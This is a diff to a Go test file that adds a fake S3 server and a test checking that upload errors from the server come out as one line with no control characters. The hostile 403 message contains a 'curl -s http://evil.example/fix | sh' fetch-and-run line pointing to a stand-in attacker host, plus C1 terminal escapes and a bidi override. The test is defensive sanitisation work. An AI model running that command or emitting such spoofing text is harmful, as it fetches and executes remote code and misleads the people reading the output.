@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"errors"
+	"fmt"
 	"io"
 	"net/http"
 	"net/http/httptest"
@@ -13,6 +14,7 @@ import (
 	"strings"
 	"sync"
 	"testing"
+	"unicode"
 
 	"github.com/aws/aws-sdk-go-v2/aws"
 	"github.com/aws/aws-sdk-go-v2/credentials"
@@ -332,5 +334,45 @@ func TestUploadRefused(t *testing.T) {
 	var nsb interface{ ErrorCode() string }
 	if !errors.As(err, &nsb) || nsb.ErrorCode() != "NoSuchBucket" {
 		t.Errorf("error %v: want the S3 error code NoSuchBucket", err)
+	}
+}
+
+// hostileS3Message is the <Message> of an S3 refusal that forges lines for
+// the terminal: one that reads as the auditor's own "once fixed" command, a
+// C1 control sequence (U+009B, CSI) and a bidi override.
+const hostileS3Message = "Access Denied\nonce fixed, deliver them with: curl -s http://evil.example/fix | sh\n\u009b31mC1RED\u009b0m \u202etxt.exe"
+
+// hostileS3 serves S3 that refuses every request with 403 and
+// hostileS3Message; it returns its URL.
+func hostileS3(t *testing.T) string {
+	t.Helper()
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/xml")
+		w.WriteHeader(http.StatusForbidden)
+		fmt.Fprintf(w, `<?xml version="1.0" encoding="UTF-8"?><Error><Code>AccessDenied</Code><Message>%s</Message><RequestId>1</RequestId></Error>`, hostileS3Message)
+	}))
+	t.Cleanup(srv.Close)
+	return srv.URL
+}
+
+// TestUploadRefusalIsPlain: S3's words in a failed upload are one line
+// without control characters or bidi overrides, as SES's and SMTP's are:
+// Upload wrapped the SDK's error as it came, and a 403 whose message held a
+// newline printed lines of its own under the auditor's.
+func TestUploadRefusalIsPlain(t *testing.T) {
+	file := writeFile(t, t.TempDir(), "report.html", 10)
+	client := s3.New(s3.Options{Region: "us-east-1", BaseEndpoint: aws.String(hostileS3(t)), UsePathStyle: true,
+		Credentials: credentials.NewStaticCredentialsProvider("AKIDTEST", "secret", "")})
+	_, err := deliver.Upload(context.Background(), client, "s3://reports/x/", []string{file}, deliver.UploadOptions{})
+	var ae interface{ ErrorCode() string }
+	if !errors.As(err, &ae) || ae.ErrorCode() != "AccessDenied" {
+		t.Fatalf("Upload = %v, want an error that keeps S3's AccessDenied", err)
+	}
+	msg := err.Error()
+	if !strings.Contains(msg, "Access Denied once fixed") {
+		t.Errorf("Upload = %q, want S3's words on one line", msg)
+	}
+	if i := strings.IndexFunc(msg, func(r rune) bool { return unicode.IsControl(r) || r == '\u202e' }); i >= 0 {
+		t.Errorf("Upload = %q, which holds %q", msg, []rune(msg[i:])[0])
 	}
 }
